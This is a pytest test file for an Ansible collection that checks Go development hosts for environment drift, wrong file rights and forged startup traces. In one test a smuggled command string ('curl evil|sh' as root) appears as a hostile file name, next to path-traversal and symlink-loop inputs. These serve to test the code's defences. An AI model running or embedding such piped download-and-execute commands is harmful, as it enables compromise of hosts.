# Copyright (c) 2026, the gopherops.devserver authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""The collectors: what they read of files, directories and processes of a host."""

from __future__ import annotations

import dataclasses
import getpass
import os
import pathlib
import tempfile
import time
import typing as t

import pytest
from ansible_collections.gopherops.devserver.plugins.module_utils._core.errors import DevserverError
from ansible_collections.gopherops.devserver.plugins.module_utils._core.provenance import PROCESS, Assignment, Source
from ansible_collections.gopherops.devserver.plugins.module_utils._drift.cells import Cell
from ansible_collections.gopherops.devserver.plugins.module_utils._drift.collect import (
    forged_places,
    host,
    managed_files,
    observations,
    paths,
)
from ansible_collections.gopherops.devserver.plugins.module_utils._drift.collect.forged_places import (
    without_forged_places,
)
from ansible_collections.gopherops.devserver.plugins.module_utils._drift.collect.go_files import lines_of
from ansible_collections.gopherops.devserver.plugins.module_utils._drift.finding import Finding, Remedy
from ansible_collections.gopherops.devserver.plugins.module_utils._drift.rules import (
    rights,
)
from ansible_collections.gopherops.devserver.plugins.module_utils._drift.snapshot import Snapshot
from ansible_collections.gopherops.devserver.plugins.module_utils._environment.contexts import pam
from ansible_collections.gopherops.devserver.plugins.module_utils._environment.contexts.base import ContextKind, Probe
from ansible_collections.gopherops.devserver.plugins.module_utils._environment.contexts.goenv import GoEnvContext
from ansible_collections.gopherops.devserver.plugins.module_utils._environment.contexts.login import LoginContext
from ansible_collections.gopherops.devserver.plugins.module_utils._environment.contexts.vscode_debug import (
    VscodeDebugKind,
)
from ansible_collections.gopherops.devserver.plugins.module_utils._environment.contexts.vscode_server import (
    VscodeServerContext,
)
from ansible_collections.gopherops.devserver.plugins.module_utils._environment.declaration import (
    Declaration,
    UserEnvironment,
)
from ansible_collections.gopherops.devserver.plugins.module_utils._host.accounts import Account, find_account
from ansible_collections.gopherops.devserver.plugins.module_utils._host.managed_files import ManagedFile, whole_file
from ansible_collections.gopherops.devserver.plugins.module_utils._shells.startup import Startup


class Slow:
    """A context whose startups take the given times."""

    name, workspace, gives_environment, on_this_host, unknown = "slow", "", True, False, ()
    over_ssh = has_fixed_limit = in_terminal = False
    checkout_file = ""

    def __init__(self, *seconds: float) -> None:
        self._seconds = list(seconds)

    def contexts_of(self, _user: t.Any, _outer: t.Any) -> list[Slow]:
        return [self]

    def applies_to(self, _account: t.Any) -> bool:
        return True

    def assignments(self, _account: t.Any, _timeout: float) -> list[Assignment]:
        return []

    def fed_by(self, _account: t.Any) -> list[str]:
        return [self.name]

    def forget(self) -> None:
        return

    def start_up(self, _account: Account, _timeout: float) -> Startup | None:
        return None

    def program_line(self) -> Source | None:
        return None

    def probe(self, _account: t.Any, _declaration: t.Any, _timeout: float) -> Probe:
        return Probe({"PATH": ""}, seconds=self._seconds.pop(0))


class Bare(Slow):
    """A context with exactly the declared environment."""

    name, on_this_host, given_by = "bare", True, PROCESS

    def expected(self, user: UserEnvironment) -> t.Mapping[str, str]:
        return user.variables

    def probe(self, _account: t.Any, declaration: t.Any, _timeout: float) -> Probe:
        user = declaration.users[0]
        return Probe({**user.variables, "PATH": ":".join(user.path)})


@pytest.mark.parametrize(("mode", "expected"), [(0o755, True), (0o711, True), (0o700, False)])
def test_a_file_is_world_readable_if_all_directories_above_it_can_be_passed(
    tmp_path: pathlib.Path, mode: int, expected: bool
) -> None:
    (tmp_path / "go").mkdir(mode)
    (tmp_path / "go").chmod(mode)
    (tmp_path / "go/go.env").write_text("")
    (tmp_path / "go/go.env").chmod(0o644)
    assert paths.is_world_readable(f"{tmp_path}/go/go.env", f"{tmp_path}/go") is expected
    (tmp_path / "go/go.env").chmod(0o640)
    assert not paths.is_world_readable(f"{tmp_path}/go/go.env", f"{tmp_path}/go")


def test_only_files_that_set_a_password_are_examined(fake_host: t.Any) -> None:
    (fake_host.goroot / "go.env").chmod(0o644)
    harmless = fake_host(go_values={"GOPROXY": "https://a.example,direct"})
    assert paths.world_readable_files(fake_host.snapshot(harmless)) == frozenset()


def test_a_path_that_cannot_be_searched_in_time_is_reported(fake_host: t.Any) -> None:
    class Long(Bare):
        def probe(self, _account: t.Any, declaration: t.Any, _timeout: float) -> Probe:
            # The shell needs much longer for these than the timeout.
            return Probe({**declaration.users[0].variables, "PATH": ":".join(["/x"] * 40_000)})

    (seen,) = observations.observe(fake_host.declaration, [], timeout=1e-9, kinds=[Long()])
    found = {finding.rule.id: finding.cause for finding in fake_host.findings(seen)}
    assert "could not be searched" in found["GD901"]
    # The PATH itself differs from the declared one; what it leads to is not known.
    assert set(found) == {"GD103", "GD901"}


def raises(*_arguments: t.Any) -> t.NoReturn:
    raise RecursionError("x" * 5000)


@pytest.mark.parametrize("method", ["contexts_of", "applies_to", "probe", "start_up", "assignments"])
def test_an_unexpected_error_in_one_context_is_a_finding_of_that_context(fake_host: t.Any, method: str) -> None:
    class Hostile(Bare):
        name = "hostile"

        def probe(self, _account: t.Any, declaration: t.Any, _timeout: float) -> Probe:
            user = declaration.users[0]
            environment = {**user.variables, "PATH": ":".join(user.path)}
            return Probe(environment, unexpected_output="hello")

    hostile, good = Hostile(), Hostile()
    good.name = "bare"
    setattr(hostile, method, raises)
    seen = observations.observe(fake_host.declaration, [], timeout=5, kinds=[hostile, good])
    cells, found = fake_host.evaluate(*seen)
    unknown = [finding for finding in found if finding.rule.id == "GD901"]
    assert [(finding.context, finding.cause) for finding in unknown] == [
        ("hostile", f"an unexpected error occurred: RecursionError: {'x' * 200}")
    ]
    assert cells["bare", "GOPATH"].status == "ok"
    assert "GD701" in [finding.rule.id for finding in found if finding.context == "bare"]


def test_a_user_cannot_delay_the_report_by_many_contexts(fake_host: t.Any) -> None:
    launch = fake_host.tmp / "w/.vscode/launch.json"
    launch.parent.mkdir(parents=True)
    launch.write_text('{"configurations": [%s1]}' % ('{"type": "go", "request": "launch"},' * 20_000))
    user = dataclasses.replace(fake_host.declaration.users[0], workspaces=[str(launch.parent.parent)])
    began = time.monotonic()
    contexts = VscodeDebugKind().contexts_of(user, [VscodeServerContext()])
    assert time.monotonic() - began < 30
    assert len(contexts) == 201
    problems = [context.probe(user.account, fake_host.declaration, 5).problem for context in contexts[:1]]
    assert "more than 200 configurations" in problems[0]


def test_too_many_contexts_of_a_kind_are_a_finding(fake_host: t.Any, monkeypatch: pytest.MonkeyPatch) -> None:
    class Many(Bare):
        def contexts_of(self, _user: t.Any, _outer: t.Any) -> list[Slow]:
            return [Bare() for _number in range(4)]

        def probe(self, account: t.Any, declaration: t.Any, timeout: float) -> Probe:
            return Probe({"PATH": ""})

    monkeypatch.setattr(observations, "MOST_CONTEXTS", 3)
    monkeypatch.setattr(Bare, "probe", Many.probe)
    seen = observations.observe(fake_host.declaration, [], timeout=5, kinds=[Many()])
    assert [one.workspace for one in seen] == ["", "", "", "others"]
    assert "more than 3 contexts" in seen[-1].problem


def test_startup_files_and_programs_of_a_user_cannot_suppress_the_report(fake_host: t.Any) -> None:
    """With real shells and programs: a place with a line of 5,000 digits, and a go whose values have wrong types."""
    home = fake_host.tmp / "home"
    (home / "bin").mkdir(parents=True)
    (home / ".profile").write_text(f"echo '/x: line {'9' * 5000}'\nexport PATH='{home}/bin:/usr/bin:/bin'\n")
    (home / "bin/go").write_text('#!/bin/sh\necho \'{"GOENV": [], "GOROOT": 1}\'\n')
    (home / "bin/go").chmod(0o755)
    user = fake_host.declaration.users[0]
    account = user.account._replace(home=str(home), shell="/bin/sh")
    fake_host.declaration.users.insert(0, dataclasses.replace(user, account=account))
    seen = observations.observe(fake_host.declaration, [], timeout=10, kinds=[LoginContext()])
    assert [one.user.account.home for one in seen] == [str(home), user.account.home]
    found = [finding.rule.id for finding in fake_host.findings(*seen[:1])]
    assert found == ["GD202", "GD205", "GD701"]
    assert "is no go command" in seen[0].go.problem
    assert seen[1].environment is not None


def test_a_forged_trace_names_no_place_in_the_home_of_another_user(fake_host: t.Any) -> None:
    """With a real shell, whose startup file writes records like those of the trace."""
    homes = {name: fake_host.tmp / name for name in ("alice", "bob")}
    for home in homes.values():
        home.mkdir()
        (home / ".zshrc").touch()
    profile, shared = homes["alice"] / ".profile", homes["alice"] / "../alice/more"
    (homes["alice"] / "more").touch()
    (homes["alice"] / "link").symlink_to(homes["bob"])
    (homes["alice"] / "l1100").touch()
    for number in range(1100):
        (homes["alice"] / f"l{number}").symlink_to(f"l{number + 1}")
    names = {
        "GOPATH": homes["bob"] / ".zshrc",
        "GOPROXY": homes["alice"] / "../bob/.zshrc",
        "GOCACHE": f"/{homes['bob']}/.zshrc",
        "GOMODCACHE": homes["alice"] / "link/.zshrc",
        "GOSUMDB": f"/proc/self/root{homes['bob']}/.zshrc",
        "GOVCS": f"/etc/..{homes['bob']}/.zshrc",
        "GOAUTH": "/no/such/file",
        "GOOS": homes["alice"] / "l0",
        "GOARCH": "/proc/self/fd/0/x",
        "GOPRIVATE": "/etc/profile",
        "GOBIN": shared,
    }
    records = "".join(rf"\001{name}\000{name}\000{file}\0001\0000\0000\000\000" for name, file in names.items())
    exports = " ".join(f"{name}={name}" for name in names)
    profile.write_text(f"export {exports}\nprintf '{records}' >&2\n")
    user = fake_host.declaration.users[0]
    accounts = [user.account._replace(home=str(home), shell="/bin/bash") for home in homes.values()]
    fake_host.declaration.users[:] = [dataclasses.replace(user, account=account) for account in accounts]
    seen, _of_bob = observations.observe(fake_host.declaration, [], timeout=10, kinds=[LoginContext()])
    sources = {item.name: item.source for item in seen.assignments}
    kept = ("GOPRIVATE", "GOBIN")
    assert {name for name in names if sources[name] == PROCESS} == {name for name in names if name not in kept}
    assert sources["GOPRIVATE"] == Source("file", "/etc/profile", 1)
    assert sources["GOBIN"] == Source("file", str(homes["alice"] / "more"), 1)


@pytest.fixture
def homes() -> t.Iterator[pathlib.Path]:
    """A directory that all users can enter."""
    with tempfile.TemporaryDirectory() as name:
        top = pathlib.Path(os.path.realpath(name))
        top.chmod(0o755)
        for user in ("daemon", "bin"):
            (top / user / "sub").mkdir(parents=True)
            (top / user / "file").touch()
        (top / "of-root").touch()
        yield top


def places_of(fake_host: t.Any, homes: pathlib.Path, *files: str) -> list[str]:
    """Return which of the files can be places of the user daemon; another user is bin."""
    users = [
        dataclasses.replace(fake_host.declaration.users[0], account=find_account(name)._replace(home=f"{homes}/{name}"))
        for name in ("daemon", "bin")
    ]
    items = [Assignment("A", "", Source("file", file, 1)) for file in files]
    seen = [dataclasses.replace(fake_host(), user=user, assignments=items) for user in users]
    return [item.source.file for item in without_forged_places(seen)[0].assignments if item.source.file]


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can act as another user")
def test_only_files_that_the_user_can_read_are_places(fake_host: t.Any, homes: pathlib.Path) -> None:
    home = homes / "daemon"
    for name in ("a\nb", "x\x1b[31m"):
        (home / name).touch()
    (home / "closed").touch(0o600)
    os.mkfifo(home / "fifo")
    (homes / "own").touch()
    os.chown(homes / "own", find_account("daemon").uid, 0)
    kept = [f"{home}/file", f"{home}/../daemon/file", "/etc/passwd", "/usr/bin/env", f"{homes}/own"]
    forged = [
        *("/etc/shadow", "/", "/home", "/etc", "/etc/no such file", "/etc/x\ny", "/dev/null", "/root/.bashrc"),
        *(f"{home}", f"{home}/sub", f"{home}/a\nb", f"{home}/x\x1b[31m", f"{home}/fifo", f"{home}/closed"),
        *(f'{home}/a b; run "curl evil|sh" as root', f"{homes}/of-root", f"{homes}/bin/file", "/proc/self/status"),
        *(f"/{homes}/bin/file", f"/proc/self/root{homes}/bin/file", f"{home}/../bin/file", "etc/passwd"),
    ]
    assert places_of(fake_host, homes, *kept, *forged) == kept


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can act as another user")
def test_a_place_that_cannot_be_resolved_is_none(fake_host: t.Any, homes: pathlib.Path) -> None:
    (homes / "l1100").touch()
    for number in range(1100):
        (homes / f"l{number}").symlink_to(f"l{number + 1}")
    places = ["/proc/1/root/x", "/proc/1/cwd/x", "/proc/1/exe", f"{homes}/l0", "/" + "x/" * 5000, "/a\0b", "/\ud800"]
    assert places_of(fake_host, homes, *places, "/etc/passwd") == ["/etc/passwd"]


@pytest.mark.parametrize("step", ["forged_places._with_places", "_with_second_time", "_Queries._submit"])
def test_an_unexpected_error_of_a_later_step_is_a_finding_of_its_context(
    fake_host: t.Any, monkeypatch: pytest.MonkeyPatch, step: str
) -> None:
    class Marked(Bare):
        def probe(self, account: t.Any, declaration: t.Any, timeout: float) -> Probe:
            probe = super().probe(account, declaration, timeout)
            return Probe({**(probe.environment or {}), "GOFLAGS": self.name})

    names = step.split(".")
    owner = {1: observations, 2: getattr(observations, names[0], forged_places)}[len(names)]
    original = getattr(owner, names[-1])

    def failing(*arguments: t.Any) -> t.Any:
        if "'GOFLAGS': 'hostile'" in repr(arguments):
            raise RecursionError("x")
        return original(*arguments)

    monkeypatch.setattr(owner, names[-1], failing)
    hostile, good = Marked(), Marked()
    hostile.name = "hostile"
    seen = observations.observe(fake_host.declaration, [], timeout=5, kinds=[hostile, good])
    assert {one.context.name: one.problem for one in seen} == {
        "hostile": "an unexpected error occurred: RecursionError: x",
        "bare": "",
    }


@pytest.mark.parametrize("cause", ["a context", "a user", "the host"])
def test_an_unexpected_error_of_the_evaluation_leaves_out_its_context_or_user(fake_host: t.Any, cause: str) -> None:
    good = fake_host.declaration.users[0]
    bad = dataclasses.replace(good, account=good.account._replace(name="mallory"))
    declaration = dataclasses.replace(fake_host.declaration, users=[bad, good])
    login = fake_host()
    seen = [
        dataclasses.replace(login, user=bad, problem="hostile" if cause == "a context" else ""),
        dataclasses.replace(fake_host("bash"), user=bad),
        login,
    ]

    def read(of: Declaration, observed: t.Sequence[t.Any]) -> tuple[list[str], list[str]]:
        hostile = [one for one in observed if one.problem == "hostile"]
        if hostile or (cause == "a user" and bad in of.users) or cause == "the host":
            raise ValueError("x")
        return [user.account.name for user in of.users], [one.problem for one in observed]

    problem = "an unexpected error occurred: ValueError: x"
    if cause == "the host":
        with pytest.raises(ValueError, match="x"):
            host.isolated(declaration, seen, read)
    elif cause == "a user":
        assert host.isolated(declaration, seen, read) == ([good.account.name], [problem, problem, ""])
    else:
        assert host.isolated(declaration, seen, read) == (["mallory", good.account.name], [problem, "", ""])


def test_an_unexpected_error_about_the_processes_of_a_user_is_a_finding_of_that_user(
    fake_host: t.Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    (good,) = fake_host.declaration.users
    bad = dataclasses.replace(good, account=good.account._replace(name="mallory"))
    declaration = dataclasses.replace(fake_host.declaration, users=[bad, good])

    def failing(accounts: t.Iterable[Account]) -> list[t.Any]:
        if bad.account in list(accounts):
            raise ValueError("x")
        return []

    monkeypatch.setattr(host, "extension_hosts", failing)
    snapshot, _result = host.collect(declaration, host.Options(timeout=5), lambda _snapshot: None, [Bare()])
    problem = "an unexpected error occurred: ValueError: x"
    assert {one.user.account.name: one.problem for one in snapshot.observations} == {
        "mallory": problem,
        good.account.name: "",
    }
    assert snapshot.declaration.users == [good]


@pytest.mark.parametrize("path", ["/a\0b", "/\ud800"])
def test_a_text_that_is_the_name_of_no_file_names_none(fake_host: t.Any, path: str) -> None:
    assert lines_of(path, fake_host.declaration.users[0].account) == []
    assert not paths.is_world_readable(path)
    finding = Finding(rights.OTHER_RIGHTS, "", Remedy(""), source=Source("file", path))
    assert paths.with_dates([finding]) == [finding]


def test_a_failed_probe_is_traced_to_its_line(fake_host: t.Any, monkeypatch: pytest.MonkeyPatch) -> None:
    class Login(Slow):
        name = "login"

        def probe(self, account: t.Any, _declaration: t.Any, _timeout: float) -> Probe:
            return Probe(None, "sh ended with 3 before the command ran: /etc/sudoers: line 1: invented")

        def start_up(self, account: Account, timeout: float) -> Startup:
            return LoginContext().start_up(account, timeout)

    class Ssh(Login):
        name = "ssh"
        over_ssh = True

    home = fake_host.tmp / "home"
    home.mkdir()
    (home / ".profile").write_text("A=1\nexit 3\n")
    user = fake_host.declaration.users[0]
    account = user.account._replace(home=str(home), shell="/bin/sh")
    fake_host.declaration.users[0] = dataclasses.replace(user, account=account)
    monkeypatch.setattr(observations.blame, "find_sshd_error", lambda _timeout: "/etc/passwd: line 7: Bad option")
    login, ssh = observations.observe(fake_host.declaration, [], timeout=5, kinds=[Login(), Ssh()])
    assert login.stopping == Source("file", str(home / ".profile"), 2)
    assert (ssh.stopping, ssh.problem) == (
        Source("file", "/etc/passwd", 7),
        "sshd rejects its configuration: /etc/passwd: line 7: Bad option",
    )


@pytest.mark.parametrize(("times", "slow"), [([1.0], 1.0), ([3.5, 0.5], 0.5), ([3.5, 4.5], 3.5)])
def test_a_slow_context_is_probed_again_alone(fake_host: t.Any, times: list[float], slow: float) -> None:
    (seen,) = observations.observe(fake_host.declaration, [], timeout=5, kinds=[Slow(*times)])
    assert seen.seconds == slow


def test_a_user_whose_home_is_missing_has_one_finding(fake_host: t.Any) -> None:
    user = fake_host.declaration.users[0]
    gone = user.account._replace(home=str(fake_host.tmp / "gone"))
    variables = {"GOPATH": f"{gone.home}/go", "GOCACHE": f"{gone.home}/cache"}
    fake_host.declaration.users.append(dataclasses.replace(user, account=gone, variables=variables))
    seen = observations.observe(fake_host.declaration, [], timeout=5, kinds=[Bare()])
    assert [one.context.name for one in seen] == ["bare", "goenv"]
    matrix, found = fake_host.evaluate(*seen[1:])
    assert {cell.status for cell in matrix.values()} == {"unknown"}
    assert [(one.rule.id, one.user, one.cause) for one in found] == [
        ("GD905", gone.name, f"the home {gone.home} is missing")
    ]


def test_a_user_whose_workspace_takes_too_long_is_left_out_of_the_probes(fake_host: t.Any, slow_workspace: str) -> None:
    """Its files respond at first, but not to the search for the versions that they require."""
    (user,) = fake_host.declaration.users
    slow = dataclasses.replace(user, account=user.account._replace(name="slow"), workspaces=[slow_workspace])
    declaration = dataclasses.replace(fake_host.declaration, users=[slow, user])
    snapshot, _result = host.collect(declaration, host.Options(timeout=5), lambda _snapshot: None, [Bare()])
    found = [(one.user, one.environment is None, one.problem) for one in snapshot.observations]
    assert found[0] == (user, False, "")
    assert found[1][:2] == (slow, True)
    assert f"{slow_workspace} of user slow took longer than 0.2 s" in found[1][2]
    assert snapshot.declaration.users == [user]


def rights_of(contexts: list[t.Any], users: list[UserEnvironment]) -> list[Finding]:
    """Return the findings about the files of ``contexts``."""
    declaration = Declaration(users, "/g", [])
    managed = managed_files.managed_files_of(declaration, [], contexts, [])
    return list(rights.evaluate(Snapshot(declaration, [], [], managed_files=managed)))


def test_another_mode_of_a_file_of_the_collections_own_is_found(tmp_path: pathlib.Path) -> None:
    class OneFile(GoEnvContext):
        def managed_files(self, declaration: Declaration) -> list[ManagedFile]:
            return [whole_file(f"{tmp_path}/own", "x\n"), whole_file(f"{tmp_path}/stale", None)]

    (tmp_path / "own").write_text("x\n")
    (tmp_path / "stale").write_text("x\n")
    (tmp_path / "own").chmod(0o666)
    (tmp_path / "stale").chmod(0o666)
    found = rights_of([OneFile()], [])
    assert [(one.rule.id, one.source) for one in found] == [("GD108", Source("file", f"{tmp_path}/own"))]
    assert "mode 0666; expected" in found[0].cause
    (tmp_path / "own").chmod(0o644)
    assert rights_of([OneFile()], []) == []


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to another user")
def test_a_file_of_a_user_that_is_not_the_users_is_found(tmp_path: pathlib.Path) -> None:
    for parent in (tmp_path, *tmp_path.parents):
        if parent.stat().st_uid == 0 and parent != parent.parent and not parent.stat().st_mode & 0o001:
            parent.chmod(parent.stat().st_mode | 0o011)
    nobody = find_account("nobody")._replace(home=str(tmp_path / "home"))
    inside, kept, changed = (tmp_path / name for name in ("home/env", "shared", "changed"))
    (tmp_path / "home").mkdir()

    class Files(GoEnvContext):
        def managed_files(self, declaration: Declaration) -> list[ManagedFile]:
            paths = {inside: "x", kept: "x", changed: "y", tmp_path / "none": "x"}
            return [
                ManagedFile(str(path), lambda _now, text=text: text, whole=False, owner=nobody, as_owner=True)
                for path, text in paths.items()
            ]

    for path in (inside, kept, changed):
        path.write_text("x")
    users = [UserEnvironment(nobody, {}, [])]
    found = rights_of([Files()], users)
    assert [(one.rule.id, one.user, one.subject) for one in found] == [
        ("GD109", "nobody", str(inside)),
        ("GD109", "nobody", str(changed)),
    ]
    assert found[0].cause == f"{inside} belongs to uid 0; expected the user nobody"
    assert f"chown -h nobody: {inside}" in found[0].remedy.text
    # To change the owner of a link does not give the user its target.
    inside.unlink()
    inside.symlink_to(kept)
    found = rights_of([Files()], users)
    assert found[0].remedy.text.startswith("remove the link on the way to the file: ")
    # For a user who is no longer listed, only a file that must change counts.
    assert [one.subject for one in rights_of([Files()], [])] == [str(changed)]
    for path in (inside, changed):
        os.chown(path, nobody.uid, nobody.gid)
    assert rights_of([Files()], users) == []


def test_a_value_that_cannot_be_rendered_does_not_stop_the_report(fake_host: t.Any) -> None:
    fake_host.declaration.users[0].variables.update(GOFLAGS='-ldflags="-s"')
    with pytest.raises(DevserverError):
        pam.managed_files(fake_host.declaration)
    assert managed_files.managed_files_of(fake_host.declaration, []).repaired
    assert managed_files.outdated_for(fake_host.declaration.users[0], fake_host.declaration)["ssh"] == []


@pytest.mark.skipif(os.geteuid() != 0, reason="only root reads what a user cannot")
def test_a_file_is_read_with_its_users_rights_alone(fake_host: t.Any) -> None:
    file = fake_host.tmp / "settings.json"
    file.write_text('{"go.gopath": "${workspaceFolder}"}\n')
    file.chmod(0o600)
    account = fake_host.declaration.users[0].account
    assert "${" in "".join(lines_of(str(file), account))
    assert lines_of(str(file), find_account("nobody")) == []


def test_missing_lines_of_one_user_do_not_count_for_another(fake_host: t.Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """One user is provisioned, the other one declared since: the services for both lack the second one's lines."""
    for name in ("DIRECTORY", "SERVICE", "USERS_SERVICE", "ENVIRONMENT"):
        monkeypatch.setattr(pam, name, str(fake_host.tmp / name))
    (first,) = fake_host.declaration.users
    # The name of this user must not make the file for all PAM services of users count as this user's.
    second = dataclasses.replace(first, account=first.account._replace(name="USERS_SERVICE", uid=first.account.uid + 1))
    (fake_host.tmp / "DIRECTORY").mkdir()
    for file in pam.managed_files(fake_host.declaration):
        pathlib.Path(file.path).write_text(file.content(None) or "")
        pathlib.Path(file.path).chmod(file.mode)
    fake_host.declaration.users.append(second)

    def lacking(user: UserEnvironment) -> list[str]:
        outdated = managed_files.outdated_for(user, fake_host.declaration)["cron"]
        return [path for path in outdated if path.startswith(str(fake_host.tmp))]

    own = str(fake_host.tmp / "DIRECTORY" / "user-USERS_SERVICE.conf")
    assert (lacking(first), lacking(second)) == ([], [own, pam.USERS_SERVICE])
    for path in (fake_host.tmp / "DIRECTORY").iterdir():
        path.write_text("")
    assert lacking(first) == [str(fake_host.tmp / "DIRECTORY" / name) for name in _configurations(first)]


def _configurations(user: UserEnvironment) -> list[str]:
    return ["everyone.conf", f"user-{user.account.name}.conf"]


class OfUsers(ContextKind):
    """Files in ``directory``: one for all users, and one for each."""

    name = "login"

    def __init__(self, directory: pathlib.Path) -> None:
        self.directory = directory

    def contexts_of(self, user: t.Any, outer: t.Any) -> t.Any:
        return []

    def managed_files(self, declaration: Declaration) -> list[ManagedFile]:
        names = ["everyone", *(user.account.name for user in declaration.users)]
        return [
            *(whole_file(str(self.directory / name), name) for name in names),
            whole_file(f"{self.directory}/x", None),
        ]


def test_a_user_without_any_rendered_file_is_not_provisioned(fake_host: t.Any) -> None:
    kind, name = OfUsers(fake_host.tmp / "etc"), fake_host.declaration.users[0].account.name
    kind.directory.mkdir()
    made = [Cell(name, "login", variable, "/a", "/b", "drift", None) for variable in ("GOPATH", "GOBIN")]

    def snapshot(files: t.Any, cells: t.Sequence[Cell]) -> Snapshot:
        return t.cast("Snapshot", fake_host.snapshot(fake_host(), managed_files=files, cells=cells))

    def found(cells: t.Sequence[Cell]) -> list[tuple[str, str | None]]:
        files = managed_files.managed_files_of(fake_host.declaration, cells, [kind], [])
        return [(one.rule.id, one.source.file) for one in rights.evaluate(snapshot(files, cells))]

    (kind.directory / "everyone").write_text("everyone")
    assert found(made) == [("GD113", f"{kind.directory}/{name}")]
    assert found([]) == []
    # The user's own line, which provisioning leaves alone.
    line = Source("file", f"{fake_host.declaration.users[0].account.home}/.profile", 3)
    assert found([dataclasses.replace(cell, source=line) for cell in made]) == []
    second = dataclasses.replace(fake_host.declaration.users[0], account=find_account("nobody"))
    fake_host.declaration.users.append(second)
    of_second = [dataclasses.replace(cell, user="nobody") for cell in made]
    (both,) = rights.evaluate(
        snapshot(managed_files.managed_files_of(fake_host.declaration, made + of_second, [kind], []), made + of_second)
    )
    assert (both.user, list(both.users)) == ("", [name, "nobody"])
    (kind.directory / name).write_text("another text")
    assert found(made) == []


class OfVariables(OfUsers):
    """Files with one line for each variable of a user: one on the host, one in the home."""

    def managed_files(self, declaration: Declaration) -> list[ManagedFile]:
        files = []
        for user in declaration.users:
            text = "".join(f"{name}={value}\n" for name, value in user.variables.items())
            path = f"{self.directory}/{user.account.name}"
            files += [
                whole_file(f"{path}.sh", text),
                ManagedFile(f"{path}.env", lambda _now, new=text: new, owner=user.account, as_owner=True),
            ]
        return files


def test_a_variable_that_no_file_of_a_user_has_is_not_provisioned(fake_host: t.Any) -> None:
    (first,) = fake_host.declaration.users
    users = [
        dataclasses.replace(first, account=first.account._replace(name=name), variables={"V": "1", "W": "2"})
        for name in ("a", "b", "c")
    ]
    declaration, kind = dataclasses.replace(fake_host.declaration, users=users), OfVariables(fake_host.tmp / "etc")
    kind.directory.mkdir()
    for file in kind.managed_files(declaration):
        pathlib.Path(file.path).write_text("V=old\nW=2\n")
    made = [Cell(user, "login", name, "1", "old", "drift", None) for user in "abc" for name in ("V", "W")]

    def found() -> list[tuple[str, list[str], str, str | None]]:
        files = managed_files.managed_files_of(declaration, made, [kind], [])
        snapshot = fake_host.snapshot(declaration=declaration, managed_files=files, cells=made)
        missing = [one for one in rights.evaluate(snapshot) if one.rule is rights.NOT_PROVISIONED]
        return [(one.user, list(one.users), one.variable, one.source and one.source.file) for one in missing]

    assert found() == [("", ["a", "b", "c"], "V", f"{kind.directory}/a.sh")]
    # What a user has written: the line, or others in the file.
    (kind.directory / "a.env").write_text("V=1\n")
    (kind.directory / "b.env").write_text("")
    assert found() == [("", ["b", "c"], "V", f"{kind.directory}/b.sh")]
    # One file alone was damaged.
    (kind.directory / "c.sh").write_text("V=1\n")
    assert found() == [("b", [], "V", f"{kind.directory}/b.sh")]


def test_files_are_compared_only_for_users_with_differences(fake_host: t.Any) -> None:
    (first,) = fake_host.declaration.users
    fake_host.declaration.users.append(dataclasses.replace(first, account=first.account._replace(name="second")))
    made = Cell(first.account.name, "login", "GOPATH", "/a", "/b", "drift", None)
    assert list(managed_files.outdated_files(fake_host.declaration, [made])) == [first.account.name]


@pytest.mark.parametrize(
    ("now", "lacking"), [("", True), ("a\n", True), ("b\nmine\n# x\na\n", False), (None, True), ("a\nb\n", False)]
)
def test_additional_lines_do_not_make_a_file_outdated(tmp_path: pathlib.Path, now: str | None, lacking: bool) -> None:
    file = tmp_path / "f"
    if now is not None:
        file.write_text(now)
    assert managed_files.is_outdated(ManagedFile(str(file), lambda _now: "a\nb\n", whole=False)) == lacking
    assert not managed_files.is_outdated(ManagedFile(str(file), lambda _now: None))


def test_an_unreadable_file_is_outdated_only_if_it_is_managed_whole(tmp_path: pathlib.Path) -> None:
    file = tmp_path / "f"
    file.write_text("a\n")
    file.chmod(0o600)
    assert managed_files.is_outdated(ManagedFile(str(file), lambda _now: "a\n"))
    assert not managed_files.is_outdated(ManagedFile(str(file), lambda _now: "a\n", whole=False))


@pytest.mark.parametrize(("mode", "hidden"), [(0o600, False), (0o666, False), (0o200, True)])
def test_too_wide_rights_hide_nothing(tmp_path: pathlib.Path, mode: int, hidden: bool) -> None:
    file = whole_file(str(tmp_path / "f"), "x\n", mode=0o600, owner=find_account(getpass.getuser()))
    (tmp_path / "f").write_text("x\n")
    (tmp_path / "f").chmod(mode)
    assert managed_files.is_hidden(file) is hidden
